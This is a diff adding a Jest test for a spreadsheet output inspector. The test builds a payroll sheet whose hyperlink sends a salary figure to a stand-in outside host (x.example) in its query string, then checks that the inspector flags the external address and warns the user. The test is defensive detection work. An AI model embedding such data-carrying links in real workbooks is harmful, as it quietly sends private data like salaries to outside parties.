@@ -160,6 +160,35 @@ describe('a sandbox result inserted into the open workbook', () => {
     expect(fake.dump()).toEqual(before);
   });
 
+  it('names a link whose address carries the data, which no formula shows, before Download', async () => {
+    const run = await sandbox.run({
+      code: [
+        'import openpyxl',
+        'wb = openpyxl.Workbook()',
+        'ws = wb.active',
+        'ws.title = "Pay"',
+        'ws.append(["Name", "Salary"])',
+        'ws.append(["Ann", 81000])',
+        'ws["C2"].hyperlink = "https://x.example/c?d=" + str(ws["B2"].value)',
+        'ws["C2"] = "details"',
+        'ws["D2"].hyperlink = "#Pay!A1"',
+        'wb.save("/output/pay.xlsx")',
+      ].join('\n'),
+      inputs: [],
+    });
+    if (!run.ok) throw new Error(JSON.stringify(run.error));
+    const reports = await inspectOutputs(sandbox, run.outputs);
+    if (!reports.ok) throw new Error(reports.error.message);
+    expect(reports.value[0]).toMatchObject({
+      networkFormulaCount: 0,
+      externalTargetCount: 1,
+      externalTargets: [{ kind: 'link', target: 'https://x.example/c?d=81000', place: 'link on Pay!C2' }],
+    });
+    expect(describeRisks(reports.value[0]!)).toEqual([
+      'pay.xlsx has 1 address outside the workbook, e.g. link on Pay!C2 to https://x.example/c?d=81000. A click on a link sends you there, with whatever the address carries.',
+    ]);
+  });
+
   it('refuses to insert a formula that only the formula guard knows (STOCKHISTORY), with where it is', async () => {
     const run = await sandbox.run({
       code: [
